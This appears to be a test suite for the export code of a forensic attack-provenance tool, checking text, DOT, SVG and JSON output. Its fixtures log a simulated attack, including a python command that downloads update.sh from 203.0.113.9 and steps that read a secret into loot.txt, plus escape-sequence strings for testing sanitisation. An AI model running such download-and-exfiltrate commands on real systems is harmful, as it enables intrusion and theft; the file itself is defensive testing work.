	e4[3] = (struct bt_edge){ 1, 3, BT_OP_SEND, 1, T0 + SEC + SEC / 2,
		T0 + SEC + SEC / 2 };
	r.edges = e4;
	r.nedges = 4;
	text = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_msg(strstr(text, "[1] bash -c x [100]  (process, "
			     "intermediate") != NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(text, "(file, detection point"));
	ck_assert_ptr_nonnull(strstr(text, "(endpoint, entry point"));
	ck_assert_ptr_nonnull(strstr(text, "result: 4 objects, 4 dependencies, "
				     "5 events examined"));
	ck_assert_msg(strstr(text, "send") == NULL, "a send into the entry "
		      "point is listed:\n%s", text);
	ep = strstr(text, "entry points (2), most likely first:\n");
	ck_assert_msg(ep != NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(ep, ". [3] 203.0.113.9:4444"));
	/* Absolute times in the header only; every edge line starts with
	 * its offset in one column, of one width. */
	body = strstr(text, "\ndepth 0:");
	ck_assert_ptr_nonnull(body);
	ck_assert_ptr_null(strstr(body, "2023-"));
	ck_assert_ptr_nonnull(strstr(text, "2023-11-14T22:13:21Z"));
	for (line = strtok_r(body, "\n", &save); line;
	     line = strtok_r(NULL, "\n", &save)) {
		const char *p = strstr(line, " s  <- ");
		int c, w;

		if (!p)
			continue;
		nedge++;
		c = (int)(strchr(line, '+') - line);
		w = (int)(p - line) - c;
		ck_assert_msg(col < 0 || (c == col && w == width),
			      "time column moves: '%s'", line);
		col = c;
		width = w;
	}
	ck_assert_int_eq(nedge, 3);
	free(text);

	/* One object; forward, the start is the starting point. */
	r.nnodes = 1;
	r.nedges = 0;
	r.dir = BT_FORWARD;
	text = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_msg(strstr(text, "result: 1 object, 0 dependencies") !=
		      NULL, "%s", text);
	ck_assert_ptr_nonnull(strstr(text, "starting point"));
	ck_assert_ptr_null(strstr(text, "leaf"));
	free(text);
	bt_graph_free(g);
}
END_TEST

/* No name can put a control character (cursor movement, a fake line) on
 * the terminal. */
START_TEST(test_text_hostile)
{
	const struct hostile *h = &hostile[_i];
	struct bt_graph *g = load_fixture(h->name, h->len);
	struct bt_result r;
	char *text;
	size_t len;

	make_result(&r, g);
	text = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_msg(clean_utf8(text, len, true), "%s:\n%s", h->what, text);
	free(text);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_node_label)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	char buf[8];
	size_t n;

	make_result(&r, g);
	n = bt_node_label(&r, 1, buf, sizeof(buf));
	ck_assert_uint_eq(n, strlen("bash [100]"));
	ck_assert_str_eq(buf, "bash [1");
	ck_assert_uint_eq(bt_node_label(&r, 99, buf, sizeof(buf)), 0);
	ck_assert_str_eq(buf, "");
	bt_graph_free(g);
}
END_TEST

/* A page node at page, vma and object granularity, and a file known by
 * inode only. */
START_TEST(test_page_labels)
{
	struct bt_log_writer *w;
	struct bt_graph *g;
	struct bt_result r;
	struct bt_node nd[4];
	char buf[128];
	const char *path = tu_path("pages.btl");

	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE), 0);
	ck_assert_int_eq(bt_log_append_file(w, 1, 0, 8, 7), 0);
	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_PATH, T0,
					     "/dev/shm/s", 10), 0);
	ck_assert_int_eq(bt_log_append_page(w, 2, 1, 3), 0);
	ck_assert_int_eq(bt_log_append_file(w, 3, 0, 8, 9), 0);
	ck_assert_int_eq(bt_log_append_file(w, 4, BT_FILEF_ANON, 1, 77), 0);
	ck_assert_int_eq(bt_log_writer_close(w), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	memset(&r, 0, sizeof(r));
	memset(nd, 0, sizeof(nd));
	r.g = g;
	r.nodes = nd;
	r.nnodes = 4;
	nd[0] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_PAGE, .file = 1,
		.page_first = 3, .page_last = 3 };
	nd[1] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_PAGE, .file = 1,
		.page_first = 0, .page_last = 7 };
	nd[2] = (struct bt_node){ .obj = 3, .kind = BT_OBJ_FILE };
	nd[3] = (struct bt_node){ .obj = 4, .kind = BT_OBJ_FILE };
	r.opts.gran = BT_GRAN_PAGE;
	bt_node_label(&r, 0, buf, sizeof(buf));
	ck_assert_str_eq(buf, "/dev/shm/s #3");
	r.opts.gran = BT_GRAN_VMA;
	bt_node_label(&r, 1, buf, sizeof(buf));
	ck_assert_str_eq(buf, "/dev/shm/s #0-7");
	r.opts.gran = BT_GRAN_OBJECT;
	bt_node_label(&r, 1, buf, sizeof(buf));
	ck_assert_str_eq(buf, "/dev/shm/s (pages)");
	bt_node_label(&r, 2, buf, sizeof(buf));
	ck_assert_str_eq(buf, "file (8:9)");
	/* no name in any file system (memfd, anonymous shared memory) */
	bt_node_label(&r, 3, buf, sizeof(buf));
	ck_assert_str_eq(buf, "anonymous file (1:77)");
	bt_graph_free(g);
}
END_TEST

/* The command line and comm are untrusted too: shortened, they still
 * never carry a control character, in text or in DOT. */
START_TEST(test_hostile_argv)
{
	static const char comm[] = "\033]0;pwned\007sh";
	static const char pat[] = "sh\0-c\0\033[2J\n\xff\xc3\"'\\\t x";
	const char *path = tu_path("argv.btl");
	struct bt_log_writer *w;
	struct bt_graph *g;
	struct bt_result r;
	struct bt_node nd[2];
	struct bt_edge ed[1];
	Agraph_t *ag;
	char *argv, *out, *lab;
	size_t alen = 20000, i, len;

	argv = malloc(alen);
	ck_assert_ptr_nonnull(argv);
	for (i = 0; i < alen; i++)
		argv[i] = pat[i % (sizeof(pat) - 1)];
	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE), 0);
	ck_assert_int_eq(bt_log_append_process(w, 1, 7, T0, 1, 0), 0);
	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_ARGV, T0, argv,
					     alen), 0);
	ck_assert_int_eq(bt_log_append_label(w, 1, BT_LABEL_COMM, T0, comm,
					     sizeof(comm) - 1), 0);
	ck_assert_int_eq(bt_log_append_file(w, 2, 0, 8, 1), 0);
	ck_assert_int_eq(bt_log_append_label(w, 2, BT_LABEL_PATH, T0,
					     "/tmp/o", 6), 0);
	ck_assert_int_eq(bt_log_append_event(w, BT_OP_WRITE, 0, 7, T0 + SEC,
					     1, 2), 0);
	ck_assert_int_eq(bt_log_writer_close(w), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	memset(&r, 0, sizeof(r));
	r.g = g;
	r.dir = BT_BACKWARD;
	r.opts.until = T0 + SEC;
	nd[0] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_FILE,
		.flags = BT_NODE_DETECTION, .threshold = T0 + SEC };
	nd[1] = (struct bt_node){ .obj = 1, .kind = BT_OBJ_PROCESS,
		.flags = BT_NODE_ENTRY, .depth = 1, .threshold = T0 + SEC };
	ed[0] = (struct bt_edge){ 1, 0, BT_OP_WRITE, 1, T0 + SEC, T0 + SEC };
	r.nodes = nd;
	r.nnodes = 2;
	r.edges = ed;
	r.nedges = 1;

	out = export_mem(&r, BT_FMT_TEXT, &len);
	ck_assert_msg(clean_utf8(out, len, true), "%s", out);
	/* The command is shortened: no line near 20 KB. */
	ck_assert_uint_lt(len, 2000);
	free(out);
	out = export_mem(&r, BT_FMT_DOT, &len);
	ag = agmemread(out);
	ck_assert_msg(ag != NULL, "%s", out);
	lab = undot(attr(node_named(ag, "n1"), "label"));
	ck_assert_msg(clean_utf8(lab, strlen(lab), false), "label '%s'", lab);
	free(lab);
	lab = undot(attr(node_named(ag, "n1"), "tooltip"));
	ck_assert_msg(clean_utf8(lab, strlen(lab), true), "tooltip not clean");
	free(lab);
	agclose(ag);
	free(out);
	free(argv);
	bt_graph_free(g);
}
END_TEST

/* ---- the picture ----------------------------------------------------- */

/*
 * The demo's attack, as a user would record it: a shell runs a script; a
 * python process downloads update.sh from 203.0.113.9:80; sh update.sh
 * reads it, has cat read the secret into a pipe, and a python writes the
 * secret into the board; another python reads the board and drops
 * loot.txt.  Ordinary work around it: an editor writes the board too, ls
 * lists /etc, date writes a file.
 */
#define W "/home/analyst/projects/demo/work/"
static const char demo_like[] =
	"{\"time\": 1000000000, \"op\": \"exec\", \"pid\": 1, \"path\": \"/bin/sh\", \"comm\": \"sh\", \"argv\": [\"sh\", \"attack.sh\"]}\n"
	"{\"time\": 1000000100, \"op\": \"read\", \"pid\": 1, \"path\": \"" W "attack.sh\"}\n"
	"{\"time\": 1000000200, \"op\": \"fork\", \"pid\": 1, \"child\": 9}\n"
	"{\"time\": 1000000300, \"op\": \"exec\", \"pid\": 9, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"edit board\"]}\n"
	"{\"time\": 1000000400, \"op\": \"write\", \"pid\": 9, \"path\": \"" W "board\"}\n"
	"{\"time\": 1000000500, \"op\": \"fork\", \"pid\": 1, \"child\": 2}\n"
	"{\"time\": 1000000600, \"op\": \"exec\", \"pid\": 2, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"import urllib.request; urllib.request.urlretrieve('http://203.0.113.9/update.sh', 'update.sh')\"]}\n"
	"{\"time\": 1000000700, \"op\": \"read\", \"pid\": 2, \"path\": \"/etc/hosts\"}\n"
	"{\"time\": 1000000800, \"op\": \"connect\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
	"{\"time\": 1000000900, \"op\": \"send\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
	"{\"time\": 1000001000, \"op\": \"recv\", \"pid\": 2, \"remote\": \"203.0.113.9:80\"}\n"
	"{\"time\": 1000001100, \"op\": \"create\", \"pid\": 2, \"path\": \"" W "update.sh\"}\n"
	"{\"time\": 1000001200, \"op\": \"write\", \"pid\": 2, \"path\": \"" W "update.sh\"}\n"
	"{\"time\": 1000001300, \"op\": \"fork\", \"pid\": 1, \"child\": 3}\n"
	"{\"time\": 1000001400, \"op\": \"exec\", \"pid\": 3, \"path\": \"/bin/sh\", \"comm\": \"sh\", \"argv\": [\"sh\", \"update.sh\"]}\n"
	"{\"time\": 1000001500, \"op\": \"read\", \"pid\": 3, \"path\": \"" W "update.sh\"}\n"
	"{\"time\": 1000001600, \"op\": \"fork\", \"pid\": 3, \"child\": 4}\n"
	"{\"time\": 1000001700, \"op\": \"exec\", \"pid\": 4, \"path\": \"/bin/cat\", \"comm\": \"cat\", \"argv\": [\"cat\", \"" W "secret.txt\"]}\n"
	"{\"time\": 1000001800, \"op\": \"read\", \"pid\": 4, \"path\": \"" W "secret.txt\"}\n"
	"{\"time\": 1000001900, \"op\": \"write\", \"pid\": 4, \"path\": \"pipe:[77]\", \"inode\": 77, \"dev\": 9, \"kind\": \"pipe\"}\n"
	"{\"time\": 1000002000, \"op\": \"read\", \"pid\": 3, \"path\": \"pipe:[77]\", \"inode\": 77, \"dev\": 9, \"kind\": \"pipe\"}\n"
	"{\"time\": 1000002100, \"op\": \"fork\", \"pid\": 3, \"child\": 5}\n"
	"{\"time\": 1000002200, \"op\": \"exec\", \"pid\": 5, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-\", \"board\"]}\n"
	"{\"time\": 1000002300, \"op\": \"write\", \"pid\": 5, \"path\": \"" W "board\"}\n"
	"{\"time\": 1000002400, \"op\": \"fork\", \"pid\": 1, \"child\": 6}\n"
	"{\"time\": 1000002500, \"op\": \"exec\", \"pid\": 6, \"path\": \"/bin/ls\", \"comm\": \"ls\", \"argv\": [\"ls\", \"/etc\"]}\n"
	"{\"time\": 1000002600, \"op\": \"read\", \"pid\": 6, \"path\": \"/etc\"}\n"
	"{\"time\": 1000002700, \"op\": \"write\", \"pid\": 6, \"path\": \"" W "listing\"}\n"
	"{\"time\": 1000002800, \"op\": \"fork\", \"pid\": 1, \"child\": 7}\n"
	"{\"time\": 1000002900, \"op\": \"exec\", \"pid\": 7, \"path\": \"/usr/bin/python3.11\", \"comm\": \"python3\", \"argv\": [\"python3\", \"-c\", \"import mmap\\nwith open('board', 'rb') as f:\\n    open('loot.txt', 'wb').write(f.read())\"]}\n"
	"{\"time\": 1000003000, \"op\": \"read\", \"pid\": 7, \"path\": \"" W "board\"}\n"
	"{\"time\": 1000003100, \"op\": \"read\", \"pid\": 7, \"path\": \"/etc/passwd\"}\n"
	"{\"time\": 1000003200, \"op\": \"write\", \"pid\": 7, \"path\": \"" W "loot.txt\"}\n"
	"{\"time\": 1000003300, \"op\": \"write\", \"pid\": 7, \"path\": \"" W "loot.txt\"}\n";

/* The text of each node's first <text> in an SVG, by node id: its y
 * (down the page). */
static double svg_node_y(const char *svg, const char *id)
{
	char key[64];
	const char *g, *t, *y;

	snprintf(key, sizeof(key), "<g id=\"%s\" class=\"node\">", id);
	g = strstr(svg, key);
	ck_assert_msg(g != NULL, "no node %s in the SVG", id);
	t = strstr(g, "<text ");
	ck_assert_ptr_nonnull(t);
	y = strstr(t, " y=\"");
	ck_assert_ptr_nonnull(y);
	return strtod(y + 4, NULL);
}

/* The SVG's size in pixels at 96 dpi (graphviz gives points). */
static void svg_size(const char *svg, double *w, double *h)
{
	const char *s = strstr(svg, "<svg ");

	ck_assert_ptr_nonnull(s);
	*w = strtod(strstr(s, " width=\"") + 8, NULL) * 96 / 72;
	*h = strtod(strstr(s, " height=\"") + 9, NULL) * 96 / 72;
}

START_TEST(test_svg_demo_like)
{
	const char *path = tu_path("demo.btl");
	struct bt_filter_opts fo;
	struct bt_filter_report *rep;
	struct bt_walk_opts o;
	struct bt_result *res;
	struct bt_graph *g;
	Agraph_t *ag;
	Agnode_t *n, *entry = NULL, *at;
	Agedge_t *e;
	char *dot, *svg, *p;
	double w, h, ydet, y;
	uint32_t start;
	uint64_t t;
	size_t len, steps;
	int err;

	err = tu_log_from_jsonl(path, demo_like);
	ck_assert_msg(err == 0, "import: %s", bt_error_msg());
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_spec_resolve(&start, &t, g, "file:" W "loot.txt"),
			 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
	bt_filter_opts_init(&fo);
	ck_assert_int_eq(bt_filter_apply(res, &fo, &rep), 0);
	ck_assert_uint_ge(res->nnodes, 12);

	/* DOT: the legend; short labels (no shared prefix); the bold path
	 * runs from the entry point ranked first to the detection point. */
	dot = export_mem(res, BT_FMT_DOT, NULL);
	ag = agmemread(dot);
	ck_assert_ptr_nonnull(ag);
	ck_assert_ptr_nonnull(agsubg(ag, (char *)"cluster_legend", 0));
	for (n = agfstnode(ag); n; n = agnxtnode(ag, n)) {
		if (!*attr(n, "kind"))
			continue;
		ck_assert_msg(!strstr(attr(n, "label"), "/home/analyst"),
			      "long label '%s'", attr(n, "label"));
		if (!strcmp(attr(n, "entry_rank"), "1"))
			entry = n;
	}
	ck_assert_msg(entry != NULL, "no entry point ranked first:\n%s", dot);
	ck_assert_str_eq(attr(entry, "label"), "203.0.113.9:80");
	for (at = entry, steps = 0; at != node_named(ag, "n0") && steps < 50;
	     steps++) {
		for (e = agfstout(ag, at); e; e = agnxtout(ag, e))
			if (!strcmp(attr(e, "attack"), "true"))
				break;
		ck_assert_msg(e != NULL, "the attack path stops at %s",
			      attr(at, "label"));
		ck_assert_ptr_nonnull(strstr(attr(e, "style"), "bold"));
		at = aghead(e);
	}
	ck_assert_ptr_eq(at, node_named(ag, "n0"));
	/* The send into the endpoint is drawn, but not as a cause. */
	for (e = agfstin(ag, entry); e; e = agnxtin(ag, e)) {
		ck_assert_str_eq(attr(e, "cause"), "false");
		ck_assert_str_eq(attr(e, "constraint"), "false");
	}
	agclose(ag);
	free(dot);

	/* SVG: fits 1600 px, the detection point alone at the bottom, the
	 * first entry point at the top. */
	svg = export_mem(res, BT_FMT_SVG, &len);
	svg_size(svg, &w, &h);
	ck_assert_msg(w <= 1600, "the picture is %.0f px wide", w);
	ydet = svg_node_y(svg, "n0");
	for (p = strstr(svg, "class=\"node\""); p;
	     p = strstr(p + 1, "class=\"node\"")) {
		const char *id = p;
		char nid[32];

		while (id > svg && strncmp(id, "<g id=\"", 7))
			id--;
		if (sscanf(id, "<g id=\"%31[^\"]", nid) != 1 ||
		    nid[0] != 'n' || nid[1] < '0' || nid[1] > '9')
			continue;  /* the legend's */
		y = svg_node_y(svg, nid);
		ck_assert_msg(!strcmp(nid, "n0") || y < ydet, "%s is not above "
			      "the detection point", nid);
	}
	free(svg);
	bt_result_free(res);
	bt_filter_report_free(rep);
	bt_graph_free(g);
}
END_TEST

/*
 * A generated log's database: a result of about 200 objects, most of them
 * pages and files read by a few processes (88 at one depth).  Drawn, it
 * stays legible: every object is there with its label, and the picture is
 * not a strip many screens wide (top to bottom it was 12,000 points wide;
 * it turns left to right and says so).
 */
START_TEST(test_svg_200)
{
	const char *path = tu_path("gen.btl");
	struct bt_gen_opts go = { .events = 2000, .seed = 1,
				  .start = 1700000000000000000ull };
	struct bt_gen_info gi;
	struct bt_filter_opts fo;
	struct bt_filter_report *rep;
	struct bt_log_writer *w;
	struct bt_walk_opts o;
	struct bt_result *res;
	struct bt_graph *g;
	char *svg, key[64];
	double wpx, hpx;
	uint32_t start;
	uint64_t t;
	size_t len, i;

	ck_assert_int_eq(bt_log_writer_open(&w, path, BT_LOGW_CREATE |
					    BT_LOGW_TRUNC), 0);
	ck_assert_int_eq(bt_gen(w, &go, &gi), 0);
	ck_assert_int_eq(bt_log_writer_close(w), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_spec_resolve(&start, &t, g,
					 "file:/dev/shm/PostgreSQL.1017"), 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
	bt_filter_opts_init(&fo);
	ck_assert_int_eq(bt_filter_apply(res, &fo, &rep), 0);
	ck_assert_msg(res->nnodes >= 150 && res->nnodes <= 300,
		      "gen's result has %zu objects now: pick another "
		      "detection point", res->nnodes);
	svg = export_mem(res, BT_FMT_SVG, &len);
	/* Every object drawn, with its label. */
	for (i = 0; i < res->nnodes; i++) {
		snprintf(key, sizeof(key), "n%zu", i);
		svg_node_y(svg, key);
	}
	svg_size(svg, &wpx, &hpx);
	ck_assert_msg(wpx <= 4000, "%.0f x %.0f px", wpx, hpx);
	ck_assert_ptr_nonnull(strstr(svg, "time flows left to right"));
	free(svg);
	bt_result_free(res);
	bt_filter_report_free(rep);
	bt_graph_free(g);
}
END_TEST

/* Two process trees (two sessions) are two clusters, each named after
 * its root. */
static const char two_trees[] =
	"{\"time\": 1000000000, \"op\": \"exec\", \"pid\": 1, \"path\": \"/bin/sshd\", \"comm\": \"sshd\"}\n"
	"{\"time\": 1000000001, \"op\": \"fork\", \"pid\": 1, \"child\": 2}\n"
	"{\"time\": 1000000002, \"op\": \"exec\", \"pid\": 2, \"path\": \"/bin/bash\", \"comm\": \"bash\"}\n"
	"{\"time\": 1000000003, \"op\": \"write\", \"pid\": 2, \"path\": \"/tmp/drop\"}\n"
	"{\"time\": 1000000004, \"op\": \"exec\", \"pid\": 3, \"path\": \"/usr/sbin/cron\", \"comm\": \"cron\"}\n"
	"{\"time\": 1000000005, \"op\": \"fork\", \"pid\": 3, \"child\": 4}\n"
	"{\"time\": 1000000006, \"op\": \"exec\", \"pid\": 4, \"path\": \"/bin/sh\", \"comm\": \"sh\"}\n"
	"{\"time\": 1000000007, \"op\": \"read\", \"pid\": 4, \"path\": \"/tmp/drop\"}\n"
	"{\"time\": 1000000008, \"op\": \"write\", \"pid\": 4, \"path\": \"/etc/shadow\"}\n";

START_TEST(test_dot_trees)
{
	const char *path = tu_path("trees.btl");
	struct bt_walk_opts o;
	struct bt_result *res;
	struct bt_graph *g;
	Agraph_t *ag, *sg;
	uint32_t start;
	uint64_t t;
	char *dot;
	int n = 0;

	ck_assert_int_eq(tu_log_from_jsonl(path, two_trees), 0);
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_spec_resolve(&start, &t, g, "file:/etc/shadow"),
			 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
	dot = export_mem(res, BT_FMT_DOT, NULL);
	ag = agmemread(dot);
	ck_assert_ptr_nonnull(ag);
	for (sg = agfstsubg(ag); sg; sg = agnxtsubg(sg)) {
		if (strncmp(agnameof(sg), "cluster_tree", 12))
			continue;
		n++;
		ck_assert_msg(strstr(attr(sg, "label"), "process tree of ") &&
			      (strstr(attr(sg, "label"), "sshd [1]") ||
			       strstr(attr(sg, "label"), "cron [3]")),
			      "cluster label '%s'", attr(sg, "label"));
		ck_assert_int_ge(agnnodes(sg), 2);
	}
	ck_assert_msg(n == 2, "%d process-tree clusters in\n%s", n, dot);
	agclose(ag);
	free(dot);
	bt_result_free(res);
	bt_graph_free(g);
}
END_TEST

/* Graphviz never sees a graph too large to lay out: a clear refusal
 * naming what to do, and DOT and text still work. */
START_TEST(test_layout_limit)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_export_opts o = { 0 };
	struct bt_node *big;
	struct bt_result r;
	char *buf = NULL;
	size_t n = 0, i;
	FILE *f;

	make_result(&r, g);
	o.max_layout_nodes = 3;
	f = open_memstream(&buf, &n);
	ck_assert_int_eq(bt_export_with(&r, BT_FMT_SVG, &o, f), BT_ELIMIT);
	ck_assert_ptr_nonnull(strstr(bt_error_msg(), "--max-nodes"));
	ck_assert_ptr_nonnull(strstr(bt_error_msg(), "json"));
	ck_assert_int_eq(bt_export_with(&r, BT_FMT_PNG, &o, f), BT_ELIMIT);
	fflush(f);
	ck_assert_uint_eq(n, 0);
	ck_assert_int_eq(bt_export_with(&r, BT_FMT_DOT, &o, f), 0);
	o.max_layout_nodes = 4;
	ck_assert_int_eq(bt_export_with(&r, BT_FMT_SVG, &o, f), 0);
	fclose(f);
	free(buf);

	/* The default limit, without laying anything out. */
	big = calloc(BT_LAYOUT_NODES_DEFAULT + 1, sizeof(*big));
	ck_assert_ptr_nonnull(big);
	for (i = 0; i <= BT_LAYOUT_NODES_DEFAULT; i++)
		big[i] = (struct bt_node){ .obj = 2, .kind = BT_OBJ_FILE,
			.depth = (uint32_t)i };
	big[0].flags = BT_NODE_DETECTION;
	r.nodes = big;
	r.nnodes = BT_LAYOUT_NODES_DEFAULT + 1;
	r.nedges = 0;
	buf = NULL;
	f = open_memstream(&buf, &n);
	ck_assert_int_eq(bt_export(&r, BT_FMT_SVG, f), BT_ELIMIT);
	ck_assert_int_eq(bt_export(&r, BT_FMT_PDF, f), BT_ELIMIT);
	fclose(f);
	free(buf);
	free(big);
	bt_graph_free(g);
}
END_TEST

/* ---- errors ----------------------------------------------------------- */

START_TEST(test_write_error)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	FILE *f = fopen("/dev/full", "w");
	enum bt_format fmts[] = { BT_FMT_TEXT, BT_FMT_DOT, BT_FMT_JSON,
				  BT_FMT_SVG };
	size_t i;

	if (!f) {
		bt_graph_free(g);
		return;  /* no /dev/full here */
	}
	make_result(&r, g);
	for (i = 0; i < sizeof(fmts) / sizeof(fmts[0]); i++) {
		clearerr(f);
		ck_assert_msg(bt_export(&r, fmts[i], f) == BT_EIO,
			      "format %d: no error writing to /dev/full",
			      (int)fmts[i]);
	}
	fclose(f);
	bt_graph_free(g);
}
END_TEST

START_TEST(test_bad_result)
{
	struct bt_graph *g = load_fixture("/etc/passwd", 11);
	struct bt_result r;
	char *buf = NULL;
	size_t n = 0;
	FILE *f = open_memstream(&buf, &n);

	make_result(&r, g);
	edges3[0].from = 17;  /* no such node */
	ck_assert_int_eq(bt_export(&r, BT_FMT_DOT, f), BT_EINVAL);
	ck_assert_int_eq(bt_export(&r, (enum bt_format)42, f), BT_EINVAL);
	ck_assert_int_eq(bt_export(NULL, BT_FMT_TEXT, f), BT_EINVAL);
	/* Text and JSON do not trip over the bad edge either. */
	ck_assert_int_eq(bt_export(&r, BT_FMT_TEXT, f), 0);
	fclose(f);
	free(buf);
	bt_graph_free(g);
}
END_TEST

/* ---- through the importer and the real walk --------------------------- */

static const char sarmoria[] =
	"{\"time\": 1000000000, \"op\": \"fork\", \"pid\": 1, \"child\": 2}\n"
	"{\"time\": 1000000001, \"op\": \"write\", \"pid\": 2, \"path\": \"/B\"}\n"
	"{\"time\": 1000000002, \"op\": \"write\", \"pid\": 2, \"path\": \"/C\"}\n"
	"{\"time\": 1000000003, \"op\": \"read\", \"pid\": 1, \"path\": \"/A\"}\n"
	"{\"time\": 1000000004, \"op\": \"fork\", \"pid\": 1, \"child\": 3}\n"
	"{\"time\": 1000000005, \"op\": \"read\", \"pid\": 3, \"path\": \"/B\"}\n"
	"{\"time\": 1000000006, \"op\": \"write\", \"pid\": 3, \"path\": \"/X\"}\n"
	"{\"time\": 1000000007, \"op\": \"read\", \"pid\": 3, \"path\": \"/C\"}\n"
	"{\"time\": 1000000008, \"op\": \"fork\", \"pid\": 1, \"child\": 4}\n"
	"{\"time\": 1000000009, \"op\": \"write\", \"pid\": 4, \"path\": \"/D\"}\n";

START_TEST(test_sarmoria_json)
{
	const char *path = tu_path("sarmoria.btl");
	const char *want[] = { "/X", "process [3]", "/B", "process [2]",
			       "process [1]", "/A" };
	struct bt_walk_opts o;
	struct bt_result *res;
	struct bt_graph *g;
	json_t *doc, *nodes, *n;
	uint32_t start;
	uint64_t t;
	char *text;
	size_t len, i, k;
	bool seen[6] = { 0 };
	int err;

	err = tu_log_from_jsonl(path, sarmoria);
	ck_assert_msg(err == 0, "import: %s", bt_error_msg());
	ck_assert_int_eq(bt_graph_load(&g, path, NULL, NULL), 0);
	ck_assert_int_eq(bt_spec_resolve(&start, &t, g, "file:/X"), 0);
	bt_walk_opts_init(&o);
	ck_assert_int_eq(bt_backtrack(&res, g, start, &o), 0);
	text = export_mem(res, BT_FMT_JSON, &len);
	doc = json_loadb(text, len, 0, NULL);
	ck_assert_ptr_nonnull(doc);
	nodes = json_object_get(doc, "nodes");
	ck_assert_uint_eq(json_array_size(nodes), 6);
	json_array_foreach(nodes, i, n) {
		const char *lab = json_string_value(json_object_get(n,
								    "label"));

		for (k = 0; k < 6; k++)
			if (!strcmp(lab, want[k]))
				seen[k] = true;
	}
	for (k = 0; k < 6; k++)
		ck_assert_msg(seen[k], "no node '%s' in\n%s", want[k], text);
	n = node_by_id(nodes, "n0");
	ck_assert_str_eq(json_string_value(json_object_get(n, "label")), "/X");
	ck_assert(json_is_true(json_object_get(n, "detection")));
	json_decref(doc);
	free(text);
	bt_result_free(res);
	bt_graph_free(g);
}
END_TEST

static Suite *export_suite(void)
{
	Suite *s = suite_create("export");
	TCase *tc;
	int nh = (int)(sizeof(hostile) / sizeof(hostile[0]));

#define TC(name, fn) do { tc = tcase_create(name); \
		tcase_add_test(tc, fn); suite_add_tcase(s, tc); } while (0)
#define TCL(name, fn) do { tc = tcase_create(name); \
		tcase_add_loop_test(tc, fn, 0, nh); suite_add_tcase(s, tc); \
	} while (0)
	TC("format names", test_format_names);
	TC("dot parses back", test_dot_parses_back);
	TCL("dot hostile names", test_dot_hostile);
	TC("dot 10 KB name", test_dot_long_name);
	TC("json schema", test_json_schema);
	TC("memory ops", test_mem_ops);
	TC("message queue label", test_sysv_msg_label);
	TCL("json hostile names", test_json_hostile);
	TC("json truncated", test_json_truncated);
	TC("single node", test_single_node);
	TC("svg", test_svg);
	tcase_set_timeout(tc, 60);  /* graphviz and fontconfig start slowly */
	TC("png and pdf", test_png_pdf);
	tcase_set_timeout(tc, 60);
	TC("text", test_text);
	TC("text in words", test_text_words);
	TC("hostile argv and comm", test_hostile_argv);
	TC("svg of a demo-like attack", test_svg_demo_like);
	tcase_set_timeout(tc, 60);
	TC("process trees", test_dot_trees);
	TC("a 200-object picture", test_svg_200);
	tcase_set_timeout(tc, 120);
	TC("layout limit", test_layout_limit);
	TCL("text hostile names", test_text_hostile);
	TC("node label", test_node_label);
	TC("page labels", test_page_labels);
	TC("write error", test_write_error);
	TC("bad result", test_bad_result);
	TC("sarmoria json", test_sarmoria_json);
#undef TC
#undef TCL
	return s;
}

int main(void)
{
	SRunner *sr = srunner_create(export_suite());
	int failed;

	srunner_run_all(sr, CK_NORMAL);
	failed = srunner_ntests_failed(sr);
	srunner_free(sr);
	return failed != 0;
}
